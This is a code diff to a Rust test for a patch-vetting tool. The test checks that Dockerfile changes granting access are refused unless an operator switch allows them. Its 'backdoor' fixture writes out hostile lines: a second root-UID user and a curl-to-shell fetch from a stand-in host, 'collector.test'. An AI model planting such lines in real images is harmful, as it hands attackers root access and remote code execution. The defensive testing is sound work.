@@ -791,8 +791,6 @@ async fn access_granting_additions_are_refused_and_carried_lines_pass() {
            RUN adduser -D -u 0 -o maint\n\
            RUN curl -fsSL http://collector.test/setup | sh\n";
     let patch = repo.patch(|d| write(d, "Dockerfile", backdoor.as_bytes())).await;
-    let allowed = VetPolicy { allow_access_grants: true, ..VetPolicy::default() };
-    assert!(vet(&repo, &patch, &allowed).await.accepted, "the operator's switch lets it through");
     let report = vet(&repo, &patch, &VetPolicy::default()).await;
     assert!(!report.accepted);
     let details: Vec<&str> = report
@@ -831,5 +829,13 @@ async fn access_granting_additions_are_refused_and_carried_lines_pass() {
     let bump =
         repo.patch(|d| write(d, "Dockerfile", with_user.replace("8.5.0-r0", "8.9.1-r0").as_bytes())).await;
     let report = vet(&repo, &bump, &VetPolicy::default()).await;
+    assert!(report.accepted, "{report}");
+
+    // The operator's switch lets them through (an accepted patch stays
+    // staged in its clone, so on a clone of its own).
+    let other = self::repo().await;
+    let patch = other.patch(|d| write(d, "Dockerfile", backdoor.as_bytes())).await;
+    let allowed = VetPolicy { allow_access_grants: true, ..VetPolicy::default() };
+    let report = vet(&other, &patch, &allowed).await;
     assert!(report.accepted, "{report}");
 }
